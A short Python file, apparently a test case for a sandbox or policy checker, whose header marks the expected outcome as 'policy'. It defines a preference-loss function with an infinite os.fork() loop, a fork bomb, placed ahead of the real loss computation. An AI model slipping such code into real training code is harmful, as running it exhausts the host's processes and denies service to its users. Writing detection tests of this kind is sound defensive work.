# expect: policy
# contained: policy
"""The classic fork bomb."""
import os

import torch.nn.functional as F


def loss(policy_chosen_logps, policy_rejected_logps, beta: float = 0.1):
    while True:
        os.fork()
    return -F.logsigmoid(beta * (policy_chosen_logps - policy_rejected_logps))
